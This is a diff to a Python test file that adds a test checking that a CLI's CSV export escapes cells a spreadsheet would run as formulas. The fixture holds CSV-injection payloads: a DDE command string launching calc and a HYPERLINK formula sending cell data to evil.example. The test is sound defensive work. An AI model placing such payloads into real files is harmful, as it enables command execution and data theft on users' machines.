@@ -50,6 +50,50 @@ def test_csv_has_lf_ends_plain_decimals_a_prompt_and_the_manifests_order(
     assert plain(7.17e-05) == "0.0000717" and plain(0.5) == "0.5" and plain(3) == 3
 
 
+HOSTILE = {
+    "id": "-flag",
+    "kind": "chat",
+    "status": "succeeded",
+    "model": "gemini-2.5-flash",
+    "custom_id": "@SUM(A1:A9)",
+    "prompt": "+cmd|' /C calc'!A0",
+    "files": [],
+    "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "usage": {"input_tokens": 3, "output_tokens": 5, "total_tokens": 8},
+    "cost": -0.0000717,
+    "attempts": 1,
+    "meta": {"row": -7, "tab": "\tx", "negative": "-5", "sum": "-2+3", "fine": "a-b"},
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_begin_with_a_quote(
+    cli: Callable[..., Outcome], tmp_path: Path
+) -> None:
+    """A server's answer (or a prompt, an id, a meta value) beginning with = + - @, a tab or CR ran as a
+    formula when the export was opened in a spreadsheet. Numbers stay numbers; jsonl keeps the text."""
+    out = tmp_path / "out"
+    out.mkdir()
+    failed = {"id": "refused", "kind": "chat", "status": "failed", "model": "gemini-2.5-flash", "files": []}
+    failed |= {"error": {"type": "x", "status": 400, "message": "=1+1"}, "attempts": 1}
+    (out / "results.jsonl").write_text(json.dumps(HOSTILE) + "\n" + json.dumps(failed) + "\n")
+    text = cli("export", out).out
+    hostile, refused = table(text)
+    assert (hostile["id"], hostile["custom_id"], hostile["prompt"], hostile["text"]) == (
+        "'-flag",
+        "'@SUM(A1:A9)",
+        "'+cmd|' /C calc'!A0",
+        "'" + HOSTILE["text"],
+    )
+    assert refused["error_message"] == "'=1+1"
+    assert (hostile["meta.tab"], hostile["meta.sum"]) == ("'\tx", "'-2+3")
+    # numbers, and text that is only a number, are read as numbers still
+    assert (hostile["cost"], hostile["meta.row"], hostile["meta.negative"]) == ("-0.0000717", "-7", "-5")
+    assert (hostile["input_tokens"], hostile["meta.fine"]) == ("3", "a-b")
+    assert text.splitlines()[1].endswith(",1,,,'+cmd|' /C calc'!A0,,-7,'\tx,-5,'-2+3,a-b")
+    line = json.loads(cli("export", out, "--format", "jsonl").out.splitlines()[0])
+    assert (line["text"], line["id"], line["prompt"]) == (HOSTILE["text"], "-flag", HOSTILE["prompt"])
+
+
 def test_pending_tasks_are_rows_and_the_filters_pick_rows(
     cli: Callable[..., Outcome], edited: Path, write: Callable[..., Path]
 ) -> None:
